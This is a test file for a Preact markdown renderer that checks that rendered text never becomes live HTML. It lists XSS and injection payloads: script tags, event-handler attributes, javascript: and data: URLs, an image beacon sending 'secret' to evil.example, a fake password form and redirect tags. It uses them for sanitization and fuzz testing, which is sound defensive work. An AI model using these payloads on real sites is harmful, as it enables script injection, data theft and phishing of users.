import { cleanup, render } from "@testing-library/preact";
import fc from "fast-check";
import { afterEach, describe, expect, it } from "vitest";
import type { Source } from "../core/Thread.ts";
import { createMarkdown, type Markdown } from "./createMarkdown.ts";

afterEach(cleanup);

const sources: readonly Source[] = [
  { url: "https://a.example/prices", title: "Prices" },
  { url: "javascript:alert(1)", title: "Bad" },
];
const draw = (text: string, open = false): HTMLElement =>
  render(<>{createMarkdown()(text, sources, open)}</>).container as HTMLElement;
const html = (text: string, open = false): string => {
  const container = draw(text, open);
  const result = container.innerHTML;
  cleanup();
  return result;
};

const payloads = [
  `<script>window.pwned=1</script>`,
  `<img src=x onerror="window.pwned=1">`,
  `<svg onload="window.pwned=1"></svg>`,
  `[x](javascript:window.pwned=1)`,
  `<a href="javascript:window.pwned=1">x</a>`,
  `<javascript:window.pwned=1>`,
  `[x](java\tscript:window.pwned=1)`,
  `[x](JaVaScRiPt:window.pwned=1)`,
  `[x](&#106;avascript:window.pwned=1)`,
  `![x](x" onerror="window.pwned=1)`,
  `![x](https://evil.example/pixel?d=secret)`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `[x](data:text/html,<script>opener.pwned=1</script>)`,
  `<details open ontoggle="window.pwned=1">`,
  `<math><mtext></p><style><img src=x onerror=window.pwned=1>`,
  `<style>*{display:none}</style>`,
  `<form action="https://evil.example"><input type=password></form>`,
  `<base href="https://evil.example"><meta http-equiv=refresh content="0;url=https://evil.example">`,
  `<div style="position:fixed;inset:0">overlay</div>`,
  `[x](vbscript:msgbox)`,
  `[x](file:///etc/passwd)`,
  `[x](blob:https://a.example/1)`,
  `**<img src=x onerror=window.pwned=1>**`,
  "`<img src=x onerror=window.pwned=1>`",
  "```html\n<script>window.pwned=1</script>\n```",
  `| <script>window.pwned=1</script> |\n| --- |\n| <img src=x> |`,
];
const allowed = /^(P|STRONG|EM|CODE|PRE|A|UL|OL|LI|DIV|TABLE|THEAD|TBODY|TR|TH|TD|BLOCKQUOTE)$/;

const harmless = /^(href="(https?|mailto|tel):|(target|rel|class|start|tabindex|role|aria-label)=)/;

/** Elements and attributes that the subset has no use for. */
function strangers(container: Element): string[] {
  return [...container.querySelectorAll("*")].flatMap(({ tagName, attributes }) => [
    ...(allowed.test(tagName) ? [] : [tagName]),
    ...[...attributes].map(({ name, value }) => `${name}="${value}`).filter((text) => !harmless.test(text)),
  ]);
}

describe("K16 text becomes nodes, never HTML", () => {
  it.each(payloads)("%s", (payload) => {
    for (const text of [payload, `Text ${payload} and [1] more`, `- ${payload}`, `> ${payload}`])
      for (const open of [false, true]) expect(strangers(draw(text, open))).toEqual([]);
    expect((globalThis as { pwned?: unknown }).pwned).toBeUndefined();
  });
  it("whatever is written", () => {
    const piece = fc.oneof(
      fc.constantFrom(
        ...payloads,
        "**",
        "*",
        "_",
        "`",
        "```",
        "[",
        "](",
        ")",
        "\n",
        "\n\n",
        "- ",
        "1. ",
        "|",
        "<",
        ">",
        "https://a.example",
      ),
      fc.string(),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), fc.boolean(), (pieces, open) => {
        expect(strangers(draw(pieces.join(""), open))).toEqual([]);
        cleanup();
      }),
      { numRuns: 200 },
    );
  });
});

describe("the subset", () => {
  it.each([
    [
      "**bold** and *soft* and `code`",
      "<p><strong>bold</strong> and <em>soft</em> and <code>code</code></p>",
    ],
    ["One\n\nTwo", "<p>One</p><p>Two</p>"],
    ["- a\n- b\n  - c", "<ul><li>a</li><li>b<ul><li>c</li></ul></li></ul>"],
    ["3. a\n4. b", '<ol start="3"><li>a</li><li>b</li></ol>'],
    ["## Title\nText", "<p><strong>Title</strong></p><p>Text</p>"],
    ["> said", "<blockquote><p>said</p></blockquote>"],
    ["snake_case_name and 2 * 3 * 4", "<p>snake_case_name and 2 * 3 * 4</p>"],
    ["\\*not soft\\*", "<p>*not soft*</p>"],
    ["[2] and [9]", "<p>[2] and [9]</p>"],
  ])("%j", (text, expected) => {
    expect(html(text)).toBe(expected);
  });
  it("has tables, links, addresses and citations", () => {
    const container = draw(
      "| A | B |\n|---|---|\n| 1 | [x](https://b.example/) |\n\nSee [1], ask post@a.example.",
    );
    expect(container.querySelectorAll("td")).toHaveLength(2);
    const links = [...container.querySelectorAll("a")].map((link) => [
      link.textContent,
      link.getAttribute("href"),
    ]);
    expect(links).toEqual([
      ["x", "https://b.example/"],
      ["1", "https://a.example/prices"],
      ["post@a.example", "mailto:post@a.example"],
    ]);
  });
});

describe("while it is written", () => {
  const text =
    "Vi har **tre pakker** for *deg*, se [prisene](https://a.example/prices) [1]:\n\n- `en` liten\n- **to** stor\n\n| A | B |\n| --- | --- |\n| 1 | 2 |\n\n```js\nlet a;\n```\n\nSlutt.";
  it("shows no half mark", () => {
    const halves: string[][] = [];
    for (let end = 1; end <= text.length; end += 1) {
      const container = draw(text.slice(0, end), true);
      const seen = container.textContent.replace("let a;", "");
      if (/[*`|[\]]|https?:|--/.test(seen)) halves.push([text.slice(0, end), seen]);
      cleanup();
    }
    expect(halves).toEqual([]);
  });
  it("ends as the same nodes as the whole text drawn at once", () => {
    fc.assert(
      fc.property(fc.array(fc.nat(text.length), { maxLength: 20 }), (cuts) => {
        const grow: Markdown = createMarkdown();
        const { container, rerender } = render(<>{grow("", sources, true)}</>);
        for (const cut of cuts.sort((a, b) => a - b))
          rerender(<>{grow(text.slice(0, cut), sources, true)}</>);
        rerender(<>{grow(text, sources, false)}</>);
        const grown = container.innerHTML;
        cleanup();
        expect(grown).toBe(html(text));
      }),
      { numRuns: 50 },
    );
  });
});
